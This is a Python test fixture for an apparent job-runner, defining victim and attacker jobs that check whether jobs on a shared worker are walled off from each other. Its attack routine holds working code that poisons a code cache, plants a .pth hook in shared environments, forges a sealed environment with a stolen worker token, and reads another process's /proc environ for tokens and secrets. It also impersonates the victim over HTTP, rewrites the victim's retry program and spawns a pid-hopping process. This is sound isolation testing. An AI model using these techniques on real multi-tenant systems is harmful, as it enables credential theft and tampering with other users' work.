"""Jobs that attack the jobs beside them (tests/test_walls.py runs them on a worker).

Not a test module: it is the entrypoint of three jobs, each a snapshot of its own.

- ``victim SIGNAL``: writes an output file in its directory and a file in its
  checkpoint directory, says where it is, waits until the attacker is done, then says
  whether both files are still what it wrote; its first attempt then fails on purpose,
  so that its retry runs in the directory the attacker could reach.
- ``attack PLAN``: everything one job on a host may try against another job and against
  the jobs after it, each printed as ``ATTACK <what> done|denied <detail>``: rewrite a
  content in the worker's code cache, add a .pth to every shared environment, plant a
  whole environment (its own interpreter, sealed with the worker's token where `ddpq up`
  keeps it) under the name a later job's requirements will be looked for by, plant a
  directory under the next job's name, read the victim's job token (and its owner's secret,
  `ps e`'s way) from /proc and post
  metrics as the victim, read and write the victim's directory and checkpoint directory,
  rewrite the victim's program for its retry, and write into the worker's own code and
  site-packages. Its code also holds a
  ``worker/launch.py`` and a ``pip/__main__.py`` (which would mark ``hijacked-*`` if the
  worker's launcher, root when walled, or the pip that builds its environment ran them),
  and, walled, it leaves a process behind that forks and exits over and over (never long
  at one pid) and beats in ``hopper-*`` while it lives.
- ``check SIGNAL``: a later job that shares a content and an environment with the
  victim: prints the content it runs, whether a planted .pth line ran in it, and what
  was hijacked.
- ``own SIGNAL``: the later job whose environment the attacker planted: says that its
  own interpreter ran (the planted one prints ``PLANTED interpreter`` instead).
"""

import hashlib
import json
import os
import re
import site
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path


def say(*words: object) -> None:
    print(*words, flush=True)


def attempt(what: str, action) -> None:  # type: ignore[no-untyped-def]
    try:
        detail = action()
        say(f"ATTACK {what} done {detail if detail is not None else ''}".rstrip())
    except OSError as exc:
        say(f"ATTACK {what} denied {type(exc).__name__}: {exc.strerror}")


def victim(signal: Path) -> None:
    from multiprocessing.connection import Listener

    import ddpqtestpkg  # from the job's requirements: the shared environment

    # A Unix socket in TMPDIR, as DataLoader workers make: its path must stay short.
    Listener(family="AF_UNIX").close()
    Path("out.txt").write_text("the victim's output\n")
    ckpt = Path(os.environ["DDPQ_CHECKPOINT_DIR"])
    (ckpt / "victim.bin").write_bytes(b"the victim's weights\n")
    # Its owner's secret reached it (so an attacker that finds none found none that was
    # there): its digest, for the test to compare; and where to look for it, for the
    # attacker (readable by any uid, whatever the umask).
    secret = os.environ.get("VICTIM_SECRET", "").encode()
    (signal / "victim-pid").write_text(str(os.getpid()))
    (signal / "victim-pid").chmod(0o644)
    say(
        f"VICTIM ready uid={os.getuid()} magic={ddpqtestpkg.MAGIC} cwd={Path.cwd()} "
        f"secret_sha256={hashlib.sha256(secret).hexdigest() if secret else None}"
    )
    deadline = time.monotonic() + 120
    while not (signal / "attacker-done").exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    out = Path("out.txt").read_text()
    weights = (ckpt / "victim.bin").read_bytes()
    extra = sorted(p.name for p in ckpt.iterdir() if p.name != "victim.bin")
    intact = out == "the victim's output\n" and weights == b"the victim's weights\n" and not extra
    say(f"VICTIM {'intact' if intact else 'tampered'} out={out!r} extra={extra}")
    if os.environ["DDPQ_ATTEMPT"] == "1":
        say("VICTIM fails its first attempt: its retry runs this program again")
        sys.exit(3)


# Run by the worker's own Python (-I: not the job's directory, which holds a worker/):
# the name the worker will look for an environment of these requirements under, and the
# seal it trusts on disk, made with the worker's token, as worker.starting.venvs made them.
FORGE = """
import hashlib, hmac, json, os, sys, tempfile
from pathlib import Path
from worker.starting import requirements, venvs
root, token, pip = Path(sys.argv[1]), sys.argv[2].encode(), json.loads(sys.argv[3])
with tempfile.TemporaryDirectory() as scratch:
    key = venvs.Venvs(Path(scratch), 1).key(requirements.read(None, pip))
env = root / key
(env / "bin").mkdir(parents=True)
(env / "bin" / "python").write_text("#!/bin/sh\\necho PLANTED interpreter\\n")
os.chmod(env / "bin" / "python", 0o755)
(env / venvs.READY).touch()
mac = hmac.new(token, venvs.seal(env).encode(), hashlib.sha256).hexdigest()
(env / venvs.SEAL).write_text(mac + "\\n")
print(env)
"""


def _environ(pid: str) -> dict[str, str]:
    raw = Path(f"/proc/{pid}/environ").read_bytes()
    return dict(kv.split("=", 1) for kv in raw.decode(errors="replace").split("\0") if "=" in kv)


def _environs() -> Iterator[dict[str, str]]:
    """The environment of every process this uid may read (`ps e`'s way)."""
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                yield _environ(proc.name)
            except OSError:
                continue


def attack(plan: dict) -> None:  # type: ignore[type-arg]
    data_dir = Path.cwd().parent.parent  # DATA_DIR/jobs/job-N-xxxx
    victim_id, next_id = str(plan["victim"]), int(plan["next"])

    def cache() -> str:
        digest = plan["digest"]
        path = data_dir / "code-cache" / digest[:2] / digest
        os.chmod(path, 0o644)
        old = path.read_bytes()
        new = old.replace(b"original", b"POISONED")
        assert len(new) == len(old)
        path.write_bytes(new)
        return str(path)

    def envs() -> str:
        written = []
        for env in (data_dir / "venvs").iterdir():
            for sp in env.glob("lib/python*/site-packages"):
                marker = str(Path(plan["signal"]) / "pth-ran-")
                line = f"import os; open({marker!r} + os.environ.get('DDPQ_JOB_ID', 'x'), 'w')\n"
                (sp / "zz_evil.pth").write_text(line)
                written.append(str(sp))
        if not written:
            raise PermissionError(13, "no environment found to write")
        return ",".join(written)

    def planted_env() -> str:
        token = None
        for where in (data_dir / "worker-token", data_dir.parent / "var" / "worker-token"):
            if where.exists():
                token = where.read_text().strip()  # walled: not this uid's to read
        if token is None:
            raise PermissionError(13, "no worker token found")
        # The worker's Python, named by the .pth that layers this environment on it.
        pth = next(Path(site.getsitepackages()[0]).glob("_ddpq_worker_site.pth")).read_text()
        found = re.search(r"addsitedir\('([^']+)'\)", pth)
        assert found is not None, pth
        python = Path(found.group(1)).parents[2] / "bin" / "python"
        argv = [str(python), "-I", "-c", FORGE, str(data_dir / "venvs"), token]
        done = subprocess.run(
            [*argv, json.dumps(plan["planted_pip"])], capture_output=True, text=True
        )
        if done.returncode != 0:
            raise PermissionError(13, done.stderr.strip().splitlines()[-1])
        return done.stdout.strip()

    def retry_dir() -> str:
        found = [p for p in (data_dir / "jobs").iterdir() if p.name.startswith(f"job-{victim_id}-")]
        if not found:
            raise PermissionError(13, "the victim's directory was not found")
        program = found[0] / "main.py"
        program.write_text("print('HIJACKED: the retry ran the attacker code', flush=True)\n")
        return str(program)

    def plant() -> str:
        planted = data_dir / "jobs" / f"job-{next_id}"
        planted.mkdir()
        (planted / "main.py").write_text("print('PLANTED code ran', flush=True)\n")
        (planted.parent / f"job-{next_id}.snapshot").write_text(plan["next_snapshot"] + "\n")
        return str(planted)

    def token() -> str:
        for env in _environs():
            if env.get("DDPQ_JOB_ID") == victim_id and "DDPQ_JOB_TOKEN" in env:
                body = json.dumps({"items": [{"step": 999, "values": {"loss": 666.0}}]})
                req = urllib.request.Request(
                    f"{env['DDPQ_URL']}/jobs/{victim_id}/metrics",
                    data=body.encode(),
                    headers={
                        "Authorization": f"Bearer {env['DDPQ_JOB_TOKEN']}",
                        "Content-Type": "application/json",
                    },
                )
                with urllib.request.urlopen(req, timeout=10) as r:
                    return f"posted as the victim: {r.status}"
        raise PermissionError(13, "no process of the victim's was readable")

    def secret() -> str:
        # The victim's owner's secret (their WANDB key, say) in its ranks' environment,
        # read from the victim's own process first, so that a refusal is the kernel's
        # refusal of that very read (a warm launcher's rank shows the warm process's
        # start, where no secret ever was), then from any process this uid may read.
        pid = (Path(plan["signal"]) / "victim-pid").read_text().strip()
        try:
            env = _environ(pid)
        except OSError as exc:
            raise type(exc)(exc.errno, f"reading the victim's environ: {exc.strerror}") from exc
        found = env.get("VICTIM_SECRET") or next(
            (e["VICTIM_SECRET"] for e in _environs() if "VICTIM_SECRET" in e), None
        )
        if found is None:
            raise PermissionError(13, "no process holding the victim's secret was readable")
        return f"read the victim's secret (sha256 {hashlib.sha256(found.encode()).hexdigest()})"

    def victim_dir() -> str:
        found = [p for p in (data_dir / "jobs").iterdir() if p.name.startswith(f"job-{victim_id}-")]
        if not found:
            raise PermissionError(13, "the victim's directory was not found")
        out = found[0] / "out.txt"
        was = out.read_text()
        out.write_text("the attacker's output\n")
        return f"read {was!r} and rewrote it"

    def victim_checkpoints() -> str:
        ckpt = data_dir / "checkpoints" / f"job-{victim_id}"
        names = sorted(p.name for p in ckpt.iterdir())
        (ckpt / "planted.bin").write_bytes(b"the attacker's weights\n")
        return f"listed {names} and wrote planted.bin"

    def worker_code() -> str:
        import worker  # the worker's own package, as the job's Python finds it

        done = []
        for where in (Path(worker.__file__).parent, Path(site.getsitepackages()[0])):
            probe = where / f"zz_hostile_{os.getpid()}.py"
            probe.write_text("# a job could have changed the worker's code here\n")
            probe.unlink()  # proven; the checkout is shared with other tests
            done.append(str(where))
        return ",".join(done)

    def hopper() -> str:
        beat = Path(plan["signal"]) / f"hopper-{os.getuid()}"
        if os.fork() != 0:
            return str(beat)
        os.setsid()
        os.closerange(0, 3)  # its job's output ends without it
        until = time.time() + 60  # not forever, should it get away in a test run
        last = 0.0
        while (now := time.time()) < until:
            if now - last > 0.01:
                beat.write_text(f"{now}\n")
                last = now
            if os.fork() != 0:
                os._exit(0)  # the child goes on at a new pid, at once
        os._exit(0)

    if plan.get("hop"):
        attempt("hopper", hopper)
    attempt("cache", cache)
    attempt("envs", envs)
    attempt("planted-env", planted_env)
    attempt("plant", plant)
    attempt("token", token)
    attempt("secret", secret)
    attempt("victim-dir", victim_dir)
    attempt("retry-dir", retry_dir)
    attempt("victim-checkpoints", victim_checkpoints)
    attempt("worker-code", worker_code)


def check(signal: Path) -> None:
    import ddpqtestpkg
    import lib  # the content the attacker rewrote in the cache

    ran = sorted(p.name for p in signal.glob("pth-ran-*"))
    hijacked = sorted(p.name for p in signal.glob("hijacked-*"))
    # Seconds since each hopper last beat: a live one beats every 10 ms.
    quiet = [round(time.time() - float(p.read_text() or 0), 1) for p in signal.glob("hopper-*")]
    say(
        f"CHECK value={lib.VALUE} magic={ddpqtestpkg.MAGIC} pth={ran} hijacked={hijacked} "
        f"hoppers_quiet_s={quiet} cwd={Path.cwd().name}"
    )


if __name__ == "__main__":
    mode, arg = sys.argv[1], sys.argv[2]
    if mode == "victim":
        victim(Path(arg))
    elif mode == "attack":
        attack(json.loads(arg))
    elif mode == "own":
        say(f"OWN interpreter ran: {sys.executable}")
    else:
        check(Path(arg))
